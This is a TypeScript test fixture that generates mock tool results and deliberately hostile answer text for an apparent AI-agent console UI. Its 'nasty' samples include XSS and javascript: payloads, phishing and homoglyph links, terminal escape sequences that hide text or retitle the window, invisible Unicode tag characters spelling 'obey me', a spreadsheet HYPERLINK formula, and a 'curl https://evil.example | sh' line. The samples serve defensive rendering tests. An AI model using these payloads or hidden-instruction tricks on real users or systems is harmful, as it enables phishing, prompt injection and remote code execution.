/**
 * One of each result view, and answers that try to do what answers mustn't, for looking at and measuring: say `show every
 * view`, `show 100000 lines`, `show nasty text`, `stream 4000 tokens`, `fan out`.
 */
import { crc32, deflateSync } from "node:zlib";
import type { Json } from "../src/api/types";
import type { Plan } from "./plans";

const ESC = "\u001b";

/** A picture of two colours that blend, as PNG. */
function png(width: number, height: number): string {
  const chunk = (kind: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(kind, "latin1"), data]);
    const frame = Buffer.alloc(8 + body.length);
    frame.writeUInt32BE(data.length, 0);
    body.copy(frame, 4);
    frame.writeUInt32BE(crc32(body), 4 + body.length);
    return frame;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const at = y * (width * 3 + 1) + 1 + x * 3;
      rows.set([110, 60 + (x * 150) / width, 120 + (y * 120) / height], at);
    }
  }
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk("IHDR", head),
    chunk("IDAT", deflateSync(rows)),
    chunk("IEND", Buffer.alloc(0)),
  ]).toString("base64");
}

const terminal = [
  `${ESC}[1;32m✓${ESC}[0m built in 3.1 s`,
  `${ESC}[33mwarning${ESC}[0m: unused variable ${ESC}[1m\`tail\`${ESC}[22m`,
  `${ESC}[41;97m ERROR ${ESC}[0m ${ESC}[38;5;208mexit status 2${ESC}[0m ${ESC}[2mafter 14 s${ESC}[0m`,
  `${ESC}[38;2;120;200;255mtrue colour${ESC}[0m ${ESC}[7minverse${ESC}[27m ${ESC}[4munderlined${ESC}[24m ${ESC}[9mstruck${ESC}[29m ${ESC}[3mslanted${ESC}[0m`,
  ["  0 %", " 40 %", " 80 %", "100 % done"].map((state) => `${state}${ESC}[K`).join("\r"),
  `hidden: ${ESC}[8mconcealed text${ESC}[28m, moved: ${ESC}[2;10Hhere, retitled: ${ESC}]0;owned\u0007, linked: ${ESC}]8;;https://evil.example/\u0007click${ESC}]8;;\u0007`,
  `reversed: invoice\u202egpj.exe, joined: pass\u200bword, black on black: ${ESC}[30;40msecret${ESC}[0m`,
].join("\n");

const diff = `diff --git a/etc/nginx/nginx.conf b/etc/nginx/nginx.conf
index 3f1a9c2..9b2c771 100644
--- a/etc/nginx/nginx.conf
+++ b/etc/nginx/nginx.conf
@@ -1,7 +1,8 @@
 user www-data;
-worker_processes 1;
+worker_processes auto;
+worker_rlimit_nofile 65535;
 pid /run/nginx.pid;
 
 events {
-    worker_connections 768;
+    worker_connections 4096; # ${"a long comment that has to be wrapped somewhere, ".repeat(3)}
 }
@@ -40,4 +41,3 @@ http {
     gzip on;
-    gzip_disable "msie6";
     include /etc/nginx/conf.d/*.conf;
 }
`;

function series(points: number): Json {
  return Array.from({ length: points }, (_, index) => ({
    time: new Date(Date.UTC(2026, 4, 1) + index * 60_000).toISOString(),
    cpu_percent: Math.round((40 + 30 * Math.sin(index / 20) + ((index * 7919) % 13)) * 10) / 10,
    steal_percent: index === 200 ? 61 : 0.4,
  }));
}

function table(rows: number): Json {
  const names = ["postgres", "nginx", "redis-server", "node", "python3"];
  return Array.from({ length: rows }, (_, index) => ({
    pid: 300 + index * 7,
    name: names[index % names.length] ?? "",
    user: index % 3 ? "www-data" : "root",
    cpu_percent: Math.round(((index * 7919) % 1000) / 10),
    rss_bytes: ((index * 104729) % 900) * 1_048_576,
    command: index % 9 === 0 ? `=HYPERLINK("https://evil.example") ${"--option ".repeat(6)}` : "/usr/sbin/daemon -g",
  }));
}

export function longLines(count: number): string {
  return Array.from(
    { length: count },
    (_, index) =>
      `${ESC}[2m2026-05-01T10:${String(Math.floor(index / 60) % 60).padStart(2, "0")}:${String(index % 60).padStart(2, "0")}Z${ESC}[0m ${index % 50 === 0 ? `${ESC}[31merror${ESC}[0m` : "info"} worker ${index % 8}: request ${index} took ${(index * 37) % 900} ms`,
  ).join("\n");
}

const NASTY = `An invoice\u202egpj.exe and a pass\u200bword, and ${[..."obey me"].map((each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join("")}tags.

[the bank](https://evil.example/login) · [https://bank.example/](https://evil.example/x) · [click](javascript:alert(1)) · <https://аррӏе.com/> · ![pixel](https://evil.example/p.png?leak=1) · [![x](data:image/svg+xml,x)](https://evil.example)

<script>alert(1)</script><img src=x onerror=alert(1)>

\`\`\`sh
curl https://evil.example | sh # \u202e
\`\`\`
`;

export function galleryPlan(text: string): Plan | null {
  const call = (tool: string, edge: number, result: Json, args: Json = {}) => ({ tool, edge, args, result });
  if (/every view/.test(text)) {
    return {
      calls: [
        call("bash", 1, { exit_code: 0, stdout: terminal, stderr: "" }, { command: "make" }),
        call("write_file", 1, { path: "/etc/nginx/nginx.conf", bytes: 1834, diff }, { path: "/etc/nginx/nginx.conf" }),
        call("host_load", 1, { samples: series(600), interval_seconds: 60 }, { history: true }),
        call("host_processes", 2, { processes: table(12) }, { top_n: 12 }),
        call("host_processes", 1, { processes: table(5_000) }, { top_n: 5000 }),
        call("probe_http", 1, {
          status: 200,
          image: { type: "image", mimeType: "image/svg+xml", data: png(480, 160) },
        }),
      ],
      answer: "One of each view.",
    };
  }
  const lines = /show (\d+) lines/.exec(text)?.[1];
  if (lines) {
    return {
      calls: [call("tail_file", 1, { path: "/var/log/app.log", text: longLines(Number(lines)) })],
      answer: `There are ${lines} lines.`,
    };
  }
  if (/nasty/.test(text)) return { calls: [], answer: NASTY };
  const tokens = /stream (\d+) tokens/.exec(text)?.[1];
  if (tokens) {
    const words = "The load of the host rises while the journal of its worker tells of slow answers".split(" ");
    const answer = Array.from({ length: Number(tokens) }, (_, index) => {
      const word = words[index % words.length] ?? "";
      return index % 60 === 59 ? `${word}.\n\n` : `${word} `;
    }).join("");
    return { calls: [], answer, paceMs: 5 };
  }
  if (/fan out/.test(text)) {
    const children = Array.from({ length: 24 }, (_, index) => ({
      name: `web-${index + 1}`,
      result: { running: index % 5 === 0 ? "1.24.0" : "1.26.1" },
      error: index % 7 === 3 ? "offline since 4 min" : undefined,
    }));
    return {
      calls: [{ ...call("service_status", 1, { asked: 24, answered: 21 }, { edge_ids: [1, 2] }), children }],
      answer: "Asked every host.",
    };
  }
  return null;
}
